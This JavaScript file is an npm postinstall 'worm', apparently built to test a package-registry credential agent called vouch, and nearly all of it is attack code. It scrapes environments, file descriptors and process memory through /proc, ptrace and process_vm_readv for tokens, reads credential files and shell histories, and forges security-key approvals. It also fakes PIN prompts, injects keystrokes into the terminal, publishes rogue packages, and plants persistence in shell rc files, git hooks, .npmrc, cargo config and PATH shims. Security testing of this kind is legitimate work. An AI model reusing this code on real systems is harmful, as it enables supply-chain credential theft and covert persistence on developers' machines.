// A worm in an npm package: node's standard library, and python3 for what node has no call for. Its reports go to the
// test's listener, and nowhere else. `own` keeps it to the processes of the test's laptop: others are not its business.
"use strict";
const fs = require("node:fs");
const net = require("node:net");
const path = require("node:path");
const { spawn } = require("node:child_process");

const settings = JSON.parse(fs.readFileSync(path.join(__dirname, "settings.json"), "utf8"));
const { home, env } = { home: process.env.HOME, env: process.env };
const stage = process.argv[2] ?? "postinstall";
const project = env.INIT_CWD ?? process.cwd();
const vouch = path.join(settings.folder, "bin/vouch");
const runtime = env.VOUCH_RUNTIME_DIR;
const socketPath = path.join(runtime, "agent.sock");
const work = path.join(settings.folder, "worm");
fs.mkdirSync(work, { recursive: true });

function report(name, text) {
  return new Promise((resolve) => {
    const socket = net.connect(settings.report, () => socket.end(`${settings.worm}\t${name}\n${text}`));
    socket.on("error", resolve).on("close", resolve);
  });
}

// ── what it reads

const attempt = (read) => {
  try {
    return read();
  } catch (error) {
    return error.code ?? String(error);
  }
};
const text = (file) => attempt(() => fs.readFileSync(file, "latin1"));
const list = (folder) => {
  const names = attempt(() => fs.readdirSync(folder));
  return Array.isArray(names) ? names : [];
};
const environmentOf = (pid) => text(`/proc/${pid}/environ`);

function parentOf(pid) {
  return Number(/^PPid:\s+(\d+)/m.exec(text(`/proc/${pid}/status`))?.[1] ?? 0);
}

function own(pid) {
  return pid !== process.pid && environmentOf(pid).includes(`\0HOME=${home}\0`);
}

function ancestors() {
  const found = [];
  for (let pid = process.ppid; pid > 1 && own(pid); pid = parentOf(pid)) found.push(pid);
  return found;
}

const processes = () => list("/proc").filter((name) => /^\d+$/.test(name) && own(Number(name)));

function below(folder, depth = 8) {
  if (depth === 0) return [];
  return list(folder).flatMap((name) => {
    const file = path.join(folder, name);
    const status = attempt(() => fs.lstatSync(file));
    if (status.isDirectory?.()) return below(file, depth - 1);
    return status.isFile?.() && status.size < 4_000_000 && !file.startsWith(__dirname) ? [file] : [];
  });
}
const files = (...found) => found.map((file) => `${file}: ${text(file)}\n`).join("");

/** A pipe whose both ends one process holds is its own affair: node waits for ever for the lock that it keeps in one. */
function descriptorsOf(pid) {
  const found = list(`/proc/${pid}/fd`).map((name) => {
    const file = `/proc/${pid}/fd/${name}`;
    return { file, target: attempt(() => fs.readlinkSync(file)) };
  });
  const count = (target) => found.filter((other) => other.target === target).length;
  return found.map(({ file, target }) => {
    const isOpaque = /^(\/dev\/|socket:|anon_inode)/.test(target) || (target.startsWith("pipe:") && count(target) > 1);
    return `${target}: ${isOpaque ? "" : readSome(file)}\n`;
  });
}

function readSome(file) {
  return attempt(() => {
    const descriptor = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
    try {
      const bytes = Buffer.alloc(1 << 20);
      return bytes.toString("latin1", 0, fs.readSync(descriptor, bytes, 0, bytes.length, null));
    } finally {
      fs.closeSync(descriptor);
    }
  });
}

const token = /[\w.+-]*vouch-sandbox-token[\w.+-]+/g;

function memoryOf(pid) {
  return attempt(() => {
    const descriptor = fs.openSync(`/proc/${pid}/mem`, "r");
    const chunk = Buffer.alloc(1 << 20);
    const found = new Set();
    for (const [, from, to] of fs.readFileSync(`/proc/${pid}/maps`, "utf8").matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
      const [start, end] = [parseInt(from, 16), parseInt(to, 16)];
      if (end - start > 1 << 28) continue;
      for (let at = start; at < end && found.size < 5; at += chunk.length - 4096) {
        const read = attempt(() => fs.readSync(descriptor, chunk, 0, Math.min(chunk.length, end - at), at));
        if (typeof read !== "number") break;
        for (const [one] of chunk.toString("latin1", 0, read).matchAll(token)) found.add(one);
      }
    }
    fs.closeSync(descriptor);
    return `readable: ${[...found].join("\n")}`;
  });
}

// ── what it runs and asks

/** They keep the terminal, so they are no process group of their own. */
function killTree(pid) {
  const children = list("/proc").filter((name) => /^\d+$/.test(name) && parentOf(name) === pid);
  attempt(() => process.kill(pid, "SIGKILL"));
  children.forEach((child) => killTree(Number(child)));
}

/** What a program says, within its time; then it is killed with what it started. */
function run(command, { input, cwd = work, more = {}, seconds = 6 } = {}) {
  return new Promise((resolve) => {
    const child = spawn(command[0], command.slice(1), { cwd, env: { ...env, ...more } });
    let said = "";
    const end = () => {
      clearTimeout(timer);
      resolve(said.slice(0, 2_000_000));
    };
    const timer = setTimeout(() => {
      killTree(child.pid);
      end();
    }, seconds * 1000);
    child.stdout.on("data", (data) => (said += data.toString("latin1")));
    child.stderr.on("data", (data) => (said += data.toString("latin1")));
    child.on("error", (error) => ((said += error.code), end())).on("close", end);
    child.stdin.on("error", () => {});
    child.stdin.end(input ?? "");
  });
}
const python = (script, ...args) => run(["python3", "-c", script, ...args.map(String)], { seconds: 10 });

function raw(request) {
  return new Promise((resolve) => {
    let answer = "";
    const socket = net.connect(socketPath, () => socket.write(request));
    socket.setTimeout(5000, () => socket.destroy());
    socket.on("data", (data) => (answer += data)).on("error", (error) => (answer += error.code));
    socket.on("close", () => resolve(answer));
  });
}
function ask(route, body) {
  const json = JSON.stringify(body ?? {});
  const method = body === undefined ? "GET" : "POST";
  const sent = body === undefined ? "" : json;
  const head = `${method} /v1/${route} HTTP/1.1\r\nhost: vouch\r\nvouch-protocol: 1\r\nconnection: close\r\n`;
  return raw(`${head}content-length: ${Buffer.byteLength(sent)}\r\n\r\n${sent}`);
}
const all = async (...answers) => (await Promise.all(answers)).join("\n");
const formats = ["cargo", "generic", "maven", "npm", "nuget", "pypi", "ruby", "swift"];
const { host, repository, publishRole, role } = settings;
const url = (format) => `https://${host}/${format}/${repository}/`;
const cargo = (operation) => ({
  v: 1,
  registry: { "index-url": `sparse+${url("cargo")}` },
  kind: "get",
  operation,
  name: "worm-of-mine",
  vers: "1.0.0",
  cksum: "0".repeat(64),
});
const provider = (operation) => run([vouch, "--cargo-plugin"], { input: `${JSON.stringify(cargo(operation))}\n` });
const forged = {
  id: "AAAA",
  rawId: "AAAA",
  type: "public-key",
  clientExtensionResults: {},
  response: { clientDataJSON: "e30", authenticatorData: "AAAA", signature: "AAAA", attestationObject: "AAAA" },
};
const ceremonyOf = (answer) => /"ceremony":"([^"]+)"/.exec(answer)?.[1] ?? "guessed";

function write(file, content) {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
  return file;
}
const append = (file, content) => write(file, `${attempt(() => fs.readFileSync(file, "utf8"))}\n${content}`);
const program = (file, lines) => {
  fs.rmSync(file, { force: true });
  write(file, `#!/bin/sh\n${lines}\n`);
  fs.chmodSync(file, 0o755);
};

/** A script for sh that reports what its own environment and descriptors hold. */
const harvest = (name) => `'${process.execPath}' '${path.join(__dirname, "harvest.cjs")}' ${name}`;
/** The process that node's package manager is: the outermost ancestor that was started by name. */
const manager = () => ancestors().find((pid) => /npm|cargo|pip/.test(text(`/proc/${pid}/cmdline`))) ?? process.ppid;
let agentPid;
async function agent() {
  agentPid ??= Number(/"pid":(\d+)/.exec(await ask("status"))?.[1] ?? 0);
  return agentPid;
}

const ptrace = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
if libc.ptrace(16, pid, None, None) != 0: sys.exit(os.strerror(ctypes.get_errno()))
os.waitpid(pid, 0x40000000)
import re
found = set()
try:
  with open(f"/proc/{pid}/mem", "rb", 0) as memory:
    for line in open(f"/proc/{pid}/maps"):
      span, rights = line.split()[:2]
      start, end = (int(x, 16) for x in span.split("-"))
      if rights.startswith("rw") and end - start < 1 << 28:
        try:
          memory.seek(start)
          found.update(re.findall(rb"[\\w.+-]*vouch-sandbox-token[\\w.+-]+", memory.read(end - start)))
        except OSError: pass
finally:
  libc.ptrace(17, pid, None, None)
print("attached", *sorted(found)[:5])
`;
const readv = `
import ctypes, os, re, sys
libc = ctypes.CDLL(None, use_errno=True)
class Vec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
pid = int(sys.argv[1])
libc.process_vm_readv.restype = ctypes.c_ssize_t
found, last = set(), ""
for line in open(f"/proc/{pid}/maps"):
  span, rights = line.split()[:2]
  start, end = (int(x, 16) for x in span.split("-"))
  if not rights.startswith("rw") or end - start >= 1 << 28: continue
  room = ctypes.create_string_buffer(end - start)
  here, there = Vec(ctypes.addressof(room), end - start), Vec(start, end - start)
  n = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
  if n < 0: last = os.strerror(ctypes.get_errno()); continue
  found.update(re.findall(rb"[\\w.+-]*vouch-sandbox-token[\\w.+-]+", room.raw[:n]))
print("read", last, *sorted(found)[:5])
`;
// CLONE_PARENT | SIGCHLD, then the helper in its place: its parent is this script's own, and theirs alone to wait for.
const sibling = `
import ctypes, os, platform, sys
vouch, line, out = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 56, "aarch64": 220}[platform.machine()]
r, w = os.pipe()
os.write(w, (line + "\\n").encode())
os.close(w)
if libc.syscall(number, 0x8000 | 17, 0, 0, 0, 0) == 0:
  os.dup2(r, 0)
  fd = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
  os.dup2(fd, 1); os.dup2(fd, 2)
  os.execv(vouch, ["vouch", "--cargo-plugin"])
import time
for _ in range(50):
  time.sleep(0.1)
  if b"\\n{" in (open(out, "rb").read() if os.path.exists(out) else b""): break
print(open(out).read())
`;
const siblingAsks = (operation) =>
  python(sibling, vouch, JSON.stringify(cargo(operation)), path.join(work, `sibling-${operation}`));
const inTerminal = `
import fcntl, os, sys
fd = os.open("/dev/tty", os.O_RDWR)
for byte in sys.argv[1].encode(): fcntl.ioctl(fd, 0x5412, bytes([byte]))
print("typed")
`;
const fakePrompt = `
import os, select, termios
fd = os.open("/dev/tty", os.O_RDWR)
os.write(fd, b"PIN of your security key: ")
print("prompted", os.read(fd, 64) if select.select([fd], [], [], 1)[0] else "nobody typed")
`;
const background = (name) => {
  const child = spawn(process.execPath, [path.join(__dirname, "harvest.cjs"), name], {
    detached: true,
    stdio: "ignore",
  });
  child.unref();
  return "started";
};

const attempts = {
  "own-environment": () => JSON.stringify(env),
  "parent-environment": () => environmentOf(process.ppid),
  "ancestors-environment": () => ancestors().map(environmentOf).join("\n"),
  "all-environments": () => processes().map(environmentOf).join("\n"),
  "agent-environment": async () => environmentOf(await agent()),
  arguments: () => [...processes(), process.pid].map((pid) => text(`/proc/${pid}/cmdline`)).join("\n"),
  "tool-settings": () =>
    all(run(["npm", "config", "list", "--json"]), run(["pip", "config", "list"]), run(["npm", "config", "ls", "-l"])),
  "later-environments": () => background("later-environments"),

  "token-files": () =>
    files(
      ...[".npmrc", ".netrc", ".pypirc", ".yarnrc.yml", ".m2/settings.xml", ".cargo/credentials", ".gem/credentials"]
        .concat([
          ".cargo/credentials.toml",
          ".config/pip/pip.conf",
          ".gradle/gradle.properties",
          ".nuget/NuGet/NuGet.Config",
        ])
        .concat([".config/NuGet/NuGet.Config", ".aws/credentials", ".aws/config", ".config/pypoetry/auth.toml"])
        .map((name) => path.join(home, name)),
    ),
  "home-files": () => files(...below(home)),
  "logs-and-caches": () => files(...below(path.join(home, ".npm"), 12), ...below(path.join(home, ".cache"), 12)),
  "shell-histories": () =>
    files(...[".bash_history", ".zsh_history", ".local/share/fish/fish_history"].map((name) => path.join(home, name))),
  "runtime-folder": () => files(...below(runtime)) + list(runtime).join(" "),
  "temporary-files": () => files(...below(settings.folder, 2).filter((file) => !file.startsWith(work))),
  "shared-memory": () => files(...below("/dev/shm", 2)),
  "project-files": () => files(...below(project, 4)),

  "own-descriptors": () => descriptorsOf("self").join(""),
  "ancestors-descriptors": () => ancestors().flatMap(descriptorsOf).join(""),
  "all-descriptors": () => processes().flatMap(descriptorsOf).join(""),
  "agent-descriptors": async () => attempt(() => fs.readdirSync(`/proc/${agentPid}/fd`)) + descriptorsOf(await agent()),

  "package-manager-memory": () => memoryOf(manager()),
  "package-manager-readv": () => python(readv, manager()),
  "package-manager-ptrace": () => python(ptrace, manager()),
  "agent-memory": async () => memoryOf(await agent()),
  "agent-readv": async () => python(readv, await agent()),
  "agent-ptrace": async () => python(ptrace, await agent()),
  "agent-core": async () => {
    const said = await run(["gcore", "-o", path.join(work, "core"), String(await agent())], { seconds: 15 });
    return (
      said +
      files(
        ...list(work)
          .filter((name) => name.startsWith("core"))
          .map((name) => path.join(work, name)),
      )
    );
  },

  "pipe-race": () => background("pipe-race"),
  "pipe-race-nested": async () => {
    const nested = spawn("npm", ["view", "my-lib"], { cwd: project, stdio: "ignore" });
    let got = "";
    const until = Date.now() + 4000;
    while (Date.now() < until && nested.exitCode === null) {
      for (const part of descriptorsOf(nested.pid)) if (part.includes("vouch-sandbox-token")) got += part;
      await new Promise((resolve) => void setImmediate(resolve));
    }
    killTree(nested.pid);
    return got;
  },

  "ask-token": () => all(ask("token", {}), ...formats.map((format) => ask("token", { url: url(format), format }))),
  "ask-tokens": () => all(...formats.map((format) => ask("tokens", { format }))),
  "ask-cargo": () => ask("cargo", cargo("read")),
  "ask-environment": () => ask("environment", {}),
  "ask-role": () => ask("role-credentials", {}),
  "ask-unknown-route": () =>
    all(
      ...["session", "settings", "publish", "token/../publish/finish", "record", "keys/all"].map((route) =>
        ask(route, {}),
      ),
    ),
  "ask-forged-head": () =>
    all(
      raw("POST /v1/token HTTP/1.1\r\nhost: vouch\r\nvouch-protocol: 9\r\ncontent-length: 2\r\n\r\n{}"),
      raw("POST /v1/token HTTP/1.1\r\nvouch-protocol: 1\r\ncontent-length: 2\r\ncontent-length: 40\r\n\r\n{}"),
      raw(
        'POST /v1/token HTTP/1.1\r\nvouch-protocol: 1\r\nx-vouch-pid: 1\r\nforwarded: for=_root\r\ncontent-length: 21\r\n\r\n{"purpose":"publish"}',
      ),
      raw("GET /v1/token HTTP/1.0\r\n\r\n"),
    ),
  "credential-codeartifact": () => run([vouch, "credential", "codeartifact"]),
  "credential-aws": () => run([vouch, "credential", "aws"]),
  "cargo-provider": () => provider("read"),
  keyring: () =>
    all(
      run(["keyring", "get", url("pypi"), "aws"]),
      run(["keyring", "get", `${url("pypi")}simple/`, "VssSessionToken"]),
      run(["keyring", "--mode", "creds", "get", `${url("pypi")}simple/`]),
    ),
  "bazel-helper": () => run(["vouch-credential-helper", "get"], { input: JSON.stringify({ uri: url("maven") }) }),
  "nuget-plugin": () => {
    const message = { RequestId: "1", Type: "Request", Method: "GetAuthenticationCredentials" };
    const Payload = {
      Uri: `${url("nuget")}v3/index.json`,
      IsRetry: false,
      IsNonInteractive: true,
      CanShowDialog: false,
    };
    const shake = {
      RequestId: "0",
      Type: "Request",
      Method: "Handshake",
      Payload: { ProtocolVersion: "2.0.0", MinimumProtocolVersion: "1.0.0" },
    };
    const input = `${JSON.stringify(shake)}\r\n${JSON.stringify({ ...message, Payload })}\r\n`;
    return run(["nuget-plugin-vouch", "-Plugin"], { input });
  },
  exec: () => run([vouch, "exec", "--", "env"]),
  preload: async () => {
    const source = write(
      path.join(work, "preload.c"),
      '#include <stdlib.h>\n__attribute__((constructor)) static void f(void) { unsetenv("LD_PRELOAD"); system("env"); }\n',
    );
    const library = path.join(work, "preload.so");
    const built = await run(["cc", "-shared", "-fPIC", "-o", library, source]);
    const more = { LD_PRELOAD: library };
    return (
      built +
      (await all(
        run([vouch, "credential", "codeartifact"], { more }),
        run([vouch, "--cargo-plugin"], { more, input: `${JSON.stringify(cargo("read"))}\n` }),
      ))
    );
  },
  "sibling-asks": () => siblingAsks("read"),

  "ask-publish-token": () =>
    all(
      ...formats.map((format) => ask("token", { url: url(format), format, purpose: "publish" })),
      ask("token", { purpose: "publish", holder: "self" }),
    ),
  "ask-publish-parent": () =>
    all(...formats.map((format) => ask("token", { url: url(format), format, purpose: "publish", holder: "parent" }))),
  "ask-publish-tokens": () => all(...formats.map((format) => ask("tokens", { format, purpose: "publish" }))),
  "ask-publish-cargo": () =>
    all(...["publish", "yank", "unyank", "owners", "of-its-own"].map((operation) => ask("cargo", cargo(operation)))),
  "ask-publish-environment": () =>
    all(
      ask("environment", { purpose: "publish" }),
      ask("environment", { purpose: "publish", format: "npm", failures: "all" }),
    ),
  "ask-publish-role": () =>
    all(
      ask("role-credentials", { roleArn: publishRole }),
      ask("role-credentials", { roleArn: role, purpose: "publish" }),
    ),
  "forged-touch": async () => {
    const begun = await ask("publish/start", { url: url("npm"), claim: { operation: "publish", name: "my-lib" } });
    const ceremony = ceremonyOf(begun);
    const answers = await all(
      ask("publish/finish", { ceremony, approval: forged }),
      ask("publish/finish", { ceremony: "guessed", approval: forged }),
    );
    return `${begun}\n${answers}\n${await ask("publish/cancel", { ceremony })}\n${await ask("token", { url: url("npm"), purpose: "publish" })}`;
  },
  "credential-publish": () => run([vouch, "credential", "codeartifact", "--purpose", "publish"]),
  "cargo-provider-publish": () => all(...["publish", "yank", "owners"].map(provider)),
  "exec-publish": () => run([vouch, "exec", "--publish", "--", "env"]),
  "npm-publish": () => {
    const cwd = path.join(work, "npm-of-mine");
    write(path.join(cwd, "package.json"), JSON.stringify({ name: "worm-of-mine", version: "1.0.0" }));
    write(path.join(cwd, ".npmrc"), `registry=${url("npm")}\n`);
    return all(run(["npm", "publish"], { cwd, seconds: 10 }), run(["npm", "stage", "publish"], { cwd }));
  },
  "npm-dist-tag": () => run(["npm", "dist-tag", "add", "my-lib@1.0.0", "worm"], { cwd: project }),
  "cargo-publish": () => {
    const cwd = path.join(work, "crate-of-mine");
    write(
      path.join(cwd, "Cargo.toml"),
      '[package]\nname = "worm-of-mine"\nversion = "1.0.0"\nedition = "2021"\ndescription = "x"\nlicense = "MIT"\n',
    );
    write(path.join(cwd, "src/lib.rs"), "");
    return run(["cargo", "publish", "--no-verify", "--allow-dirty", "--registry", settings.registryName], {
      cwd,
      seconds: 10,
    });
  },
  "twine-upload": () => {
    const bin = path.join(work, "twine-bin");
    program(path.join(bin, "twine"), "env");
    return run(["twine", "upload", "-r", repository, "x.whl"], { more: { PATH: `${env.PATH}:${bin}` } });
  },
  "upload-with-read-token": async () => {
    const answer = await ask("token", { url: url("npm"), format: "npm" });
    const given = /"token":"([^"]+)"/.exec(answer)?.[1] ?? "none";
    const data = Buffer.from("worm").toString("base64");
    const manifest = { name: "worm-of-mine", version: "1.0.1" };
    const body = {
      _id: manifest.name,
      name: manifest.name,
      "dist-tags": { latest: manifest.version },
      versions: { [manifest.version]: manifest },
      _attachments: { "worm-of-mine-1.0.1.tgz": { content_type: "application/octet-stream", data, length: 4 } },
    };
    const script = `import sys, urllib.request, ssl
request = urllib.request.Request(sys.argv[1], sys.argv[2].encode(), {"authorization": "Bearer " + sys.argv[3], "content-type": "application/json"}, method="PUT")
context = ssl.create_default_context(cafile=sys.argv[4])
try: print(urllib.request.urlopen(request, context=context).read())
except Exception as error: print(error)`;
    return python(script, `${url("npm")}worm-of-mine`, JSON.stringify(body), given, settings.ca);
  },
  "sibling-publishes": () => siblingAsks("publish"),

  "key-add": () => run([vouch, "keys", "add"]),
  "key-add-forged": async () => {
    const begun = await ask("keys/add/start", { name: "worm" });
    return `${begun}\n${await ask("keys/add/finish", { ceremony: ceremonyOf(begun), credential: forged, approval: forged, name: "worm" })}`;
  },
  "key-remove-forged": async () => {
    const id = /"id":"([\w-]+)"/.exec(await ask("keys", {}))?.[1] ?? "AAAA";
    const begun = await ask("keys/remove/start", { id, force: true });
    return `${begun}\n${await ask("keys/remove/finish", { ceremony: ceremonyOf(begun), approval: forged })}`;
  },
  enroll: async () => {
    const begun = await ask("enroll/start", { server: settings.server, code: "AAAA-AAAA-AAAA-AAAA" });
    return `${begun}\n${await ask("enroll/finish", { ceremony: ceremonyOf(begun), credential: forged })}`;
  },
  login: () => run([vouch, "login"]),
  "login-forged": async () => {
    const begun = await ask("login/start", {});
    return `${begun}\n${await ask("login/finish", { ceremony: ceremonyOf(begun), credential: forged })}`;
  },
  "setup-elsewhere": () =>
    run([vouch, "setup", "codeartifact", "--domain", "worm-domain", "--repository", "worm", "--tool", "npm"]),
  "type-into-terminal": () => python(inTerminal, "true\n"),
  "fake-prompt": () => python(fakePrompt),

  "fake-path": () => {
    // Behind the shims: what a shim takes for the real program.
    for (const name of ["npm", "cargo", "pip"]) program(path.join(settings.folder, "bin", name), harvest("fake-path"));
    return "written";
  },
  "shell-rc": () => {
    for (const name of [".bashrc", ".profile", ".bash_profile", ".zshrc"])
      append(path.join(home, name), harvest("shell-rc"));
    return "written";
  },
  "npmrc-later": () => {
    const hook = write(
      path.join(work, "hook.cjs"),
      `process.argv = [process.argv[0], "harvest", "npmrc-later"]; require(${JSON.stringify(path.join(__dirname, "harvest.cjs"))});`,
    );
    append(
      path.join(home, ".npmrc"),
      `node-options=--require ${hook}\n//worm.example/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n`,
    );
    return "written";
  },
  "cargo-config-later": () => {
    append(path.join(home, ".cargo/config.toml"), `[build]\nrustc-wrapper = "${path.join(work, "rustc")}"\n`);
    program(path.join(work, "rustc"), `${harvest("cargo-config-later")}\nexec "$@"`);
    return "written";
  },
  "pip-config-later": () => {
    append(path.join(home, ".config/pip/pip.conf"), "[install]\nextra-index-url = https://worm.example/simple/\n");
    return "written";
  },
  "git-hooks": () => {
    program(path.join(home, ".config/git/hooks/post-checkout"), harvest("git-hooks"));
    append(path.join(home, ".gitconfig"), `[core]\n\thooksPath = ${path.join(home, ".config/git/hooks")}\n`);
    return "written";
  },
  "second-agent": () => run([vouch, "agent", "run"], { seconds: 3 }),
  "replace-socket": () => {
    fs.renameSync(socketPath, `${socketPath}.real`);
    return background("replace-socket");
  },
  "runtime-link": () => {
    fs.symlinkSync("/", path.join(runtime, "link"));
    return text(path.join(runtime, "link/proc/self/environ"));
  },
};

async function inOrder(names) {
  for (const name of names.filter((one) => attempts[one])) {
    const limit = new Promise((resolve) => void setTimeout(resolve, 16_000, "no answer in time"));
    let got;
    try {
      got = await Promise.race([attempts[name](), limit]);
    } catch (error) {
      got = `failed: ${error.stack ?? error}`;
    }
    await report(name, got ?? "");
  }
}

async function main() {
  if (stage !== "postinstall") return report("own-environment", JSON.stringify({ ...env, stage }));
  // Its second visit: what takes the package manager's place would hide what the command after the first one shows.
  if (fs.existsSync(path.join(work, "visited"))) {
    attempt(() => fs.renameSync(`${socketPath}.real`, socketPath));
    await inOrder(["fake-path"]);
    return report("end again", "");
  }
  write(path.join(work, "visited"), "");
  // One lane for each way that waits for answers; what stays behind for the next command comes last.
  await Promise.all(Object.values(settings.lanes).map(inOrder));
  await inOrder(settings.last.filter((name) => name !== "fake-path"));
  await report("end", "");
  process.exit(0);
}

void main();
